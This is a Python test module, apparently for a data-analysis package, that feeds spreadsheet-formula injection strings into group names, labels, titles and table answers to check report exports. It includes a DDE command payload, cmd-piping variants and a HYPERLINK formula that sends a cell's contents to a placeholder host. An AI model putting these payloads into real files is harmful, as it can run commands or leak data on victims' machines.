"""Text that a spreadsheet would run as a formula, in groups, labels, titles and answers."""

from __future__ import annotations

from typing import Any

import numpy as np

from trust.bad_data.case import MODEL, Case, changed
from trust.bad_data.groups import named

__all__ = ["SHEETS"]

BY = {"group": "sector"}
LINK = '=HYPERLINK("http://example.org?"&A1)'
ALL_FORMATS = {"report": {"formats": ["html", "csv", "md", "tex"]}}


def _labelled() -> dict[str, Any]:
    """Return a model with formulas for labels of a construct and an item."""
    items = {"x1": {"nl": LINK, "en": LINK}, "x2": {"en": "@SUM(1)"}, "x3": {"en": "-1+1"}}
    measured = MODEL["measurement"]
    told = measured["f"] | {"label": {"nl": "=1+1", "en": "=1+1"}, "item_labels": items}
    return MODEL | {"measurement": measured | {"f": told}}


def _groups(kind: str = "spreadsheet formulas") -> list[Case]:
    def told(name: str, label: str, verbs: tuple[str, ...] = ("check",), **study: Any) -> list[Case]:
        return list(changed(kind, name, named(label, *range(1, 40, 3)), "formula: sector has", f'"{label}"',
                            code=0, data=BY, study=study, verbs=verbs))  # fmt: skip

    return [
        *told("equals", "=1+1", ("check", "fit"), **ALL_FORMATS),
        *told("command", "=cmd|' /C calc'!A0"),
        *told("link", LINK),
        *told("at", "@SUM(1;1)", ("check", "fit")),
        *told("plus", "+1+cmd|x"),
        *told("minus", "-2+3+cmd|x"),
        *told("wide", "＝1+1"),
        *changed(kind, "apostrophe", named("'=1+1", *range(1, 40, 3)), "groups (sector): Rijk 40, '=1+1 13",
                 code=0, data=BY, verbs=("check",)),
        *changed(kind, "number_is_none", named("-1", *range(1, 40, 3)), "groups (sector): Rijk 40, -1 13",
                 code=0, data=BY, verbs=("check",)),
        *changed(kind, "place_is_none", named("'s-Hertogenbosch", *range(1, 40, 3)),
                 "groups (sector): Rijk 40, 's-Hertogenbosch 13", code=0, data=BY, verbs=("check",)),
        *changed(kind, "labels_and_title", lambda d: d, "", code=0, verbs=("fit", "describe"),
                 study={"model": _labelled(), "title": LINK, "source": "+1+1"} | ALL_FORMATS),
        *changed(kind, "answers_of_tables", lambda d: d.assign(why=np.where(d.index % 2, LINK, "+1+1")), "",
                 code=0, verbs=("describe",), data=BY, study=ALL_FORMATS | {"describe": {"tables": [
                     {"table": "a", "kind": "means", "of": ["f"], "by": "why"}]}}),
    ]  # fmt: skip


SHEETS: tuple[Case, ...] = tuple(_groups())
